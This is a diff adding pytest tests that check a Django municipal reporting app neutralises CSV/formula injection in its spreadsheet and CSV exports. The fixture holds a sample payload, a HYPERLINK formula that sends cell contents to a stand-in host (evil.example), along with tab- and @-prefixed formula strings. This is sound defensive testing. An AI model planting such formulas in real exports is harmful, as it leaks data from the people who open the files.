@@ -1,0 +1,85 @@
+"""Text that a spreadsheet program would run as a formula is neutralised in every spreadsheet and
+CSV the product writes; numbers stay numbers."""
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from openpyxl import load_workbook
+
+from digitalbilanz.reports import service
+from digitalbilanz.spreadsheet import safe_cell
+from digitalbilanz.testing import Factory
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
+TABBED = "\t=1+1"  # a tab in front is skipped by some spreadsheet programs
+
+
+@pytest.fixture
+def town(db):
+    town = Factory.municipality()
+    measure = Factory.measure(town, code="M-1", title=EVIL, description=TABBED, goals="@SUM(A1:A9)")
+    Factory.line(measure, amount="1000")  # costs without benefit: a negative NPV
+    return town
+
+
+def cells(content):
+    book = load_workbook(io.BytesIO(content))
+    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+
+
+def test_safe_cell_prefixes_formula_text_and_leaves_other_values_alone():
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert safe_cell(text) == "'" + text
+    assert safe_cell("Bürgerportal = Service") == "Bürgerportal = Service"
+    assert safe_cell(-12.5) == -12.5 and safe_cell(None) is None and safe_cell(True) is True
+
+
+def test_published_report_workbook_keeps_the_formula_title_as_text(town):
+    edition = service.publish(service.create_draft(town, "2024-H2", "public"), confirm=True)
+    found = cells(bytes(edition.file("xlsx").content))
+    assert not [c for c in found if c.data_type == "f"]
+    assert "'" + EVIL in [c.value for c in found]
+    assert any(isinstance(c.value, float | int) and c.value < 0 for c in found)  # NPV stays a number
+
+
+def test_open_data_csv_neutralises_formula_text_but_not_numbers(town):
+    content = Client().get(f"/{town.slug}/daten/measures.csv").content.decode()
+    row = next(csv.DictReader(io.StringIO(content)))
+    assert row["title"] == "'" + EVIL
+    assert row["description"] == "'" + TABBED and row["goals"] == "'@SUM(A1:A9)"
+    figures = Client().get(f"/{town.slug}/daten/figures.csv").content.decode()
+    npv = next(csv.DictReader(io.StringIO(figures)))["npv_kn"]
+    assert npv.startswith("-") and float(npv) < 0
+
+
+def test_open_data_workbook_neutralises_formula_text_but_not_numbers(town):
+    found = cells(Client().get(f"/{town.slug}/daten/measures.xlsx").content)
+    values = [c.value for c in found]
+    assert not [c for c in found if c.data_type == "f"]
+    assert "'" + EVIL in values and "'" + TABBED in values
+    figures = cells(Client().get(f"/{town.slug}/daten/figures.xlsx").content)
+    assert any(isinstance(c.value, float | int) and c.value < 0 for c in figures)
+
+
+def test_data_page_says_what_was_done_and_why(town):
+    html = Client().get(f"/{town.slug}/daten/").content.decode()
+    assert "CSV-Injection" in html and "Apostroph" in html
+    assert "Apostroph" in Client().get(f"/{town.slug}/daten/spalten/").content.decode()
+
+
+def test_every_module_that_writes_spreadsheets_uses_safe_cell():
+    """A new export (csv.writer, openpyxl) must go through ``digitalbilanz.spreadsheet``."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    writers = [
+        p
+        for p in root.rglob("*.py")
+        if "tests" not in p.parts and ("csv.writer" in (t := p.read_text()) or "openpyxl" in t)
+    ]
+    assert writers  # the check finds the open-data engine and the report workbook
+    assert [
+        p.name for p in writers if "from digitalbilanz.spreadsheet import safe_cell" not in p.read_text()
+    ] == []
